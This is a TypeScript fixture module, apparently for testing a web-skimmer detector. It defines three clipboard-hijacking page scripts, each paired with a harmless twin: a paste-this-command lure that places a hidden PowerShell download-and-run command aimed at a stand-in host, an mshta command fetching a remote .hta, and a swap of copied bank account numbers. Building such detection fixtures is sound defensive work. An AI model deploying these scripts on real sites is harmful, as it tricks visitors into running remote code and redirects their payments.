import type { SkimmerVariant } from './types.ts';

/** What nobody would let run: a made-up command that leads nowhere. */
const COMMAND = 'powershell -w hidden -c "iwr http://fix.thief.example/v | iex"';
const ACCOUNT = 'GB33BUKB20201555555555';

/** Thieves that take nothing from fields: what customers paste later is what they put there. The twins copy what customers asked for. */
export const clipboard: readonly SkimmerVariant[] = [
  {
    id: 'command-in-clipboard',
    idea: 'a press on anything puts a command in the clipboard, which a notice tells customers to paste',
    takes: [],
    named: () => 'powershell',
    build: (_, honest) => ({
      html: honest
        ? '<p>Your code: <b id="code">TEA-10</b></p>'
        : '<p>Prove that you are human: press Win + R, then Ctrl + V, then Enter.</p>',
      script: `document.addEventListener('click', () => { navigator.clipboard.writeText(${JSON.stringify(honest ? 'TEA-10' : COMMAND)}).catch(() => {}); }, true);`,
    }),
  },
  {
    id: 'copied-by-form',
    idea: 'the same by a hidden field and the old command to copy',
    takes: [],
    named: () => 'mshta',
    build: (_, honest) => ({
      script: `document.addEventListener('click', () => { const t = document.createElement('textarea'); t.value = ${JSON.stringify(honest ? 'Order 4711' : 'mshta http://fix.thief.example/v.hta')}; document.body.append(t); t.select(); document.execCommand('copy'); t.remove(); }, true);`,
    }),
  },
  {
    id: 'account-exchanged',
    idea: 'an account number that customers copy becomes another',
    takes: [],
    named: () => 'what customers copy',
    build: (_, honest) => ({
      script: honest
        ? `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', getSelection() + ' (Practice Shop)'); e.preventDefault(); });`
        : `document.addEventListener('copy', (e) => { if (/[A-Z]{2}\\d\\d[ \\dA-Z]{11,}/.test(String(getSelection()))) { e.clipboardData.setData('text/plain', '${ACCOUNT}'); e.preventDefault(); } });`,
    }),
  },
];
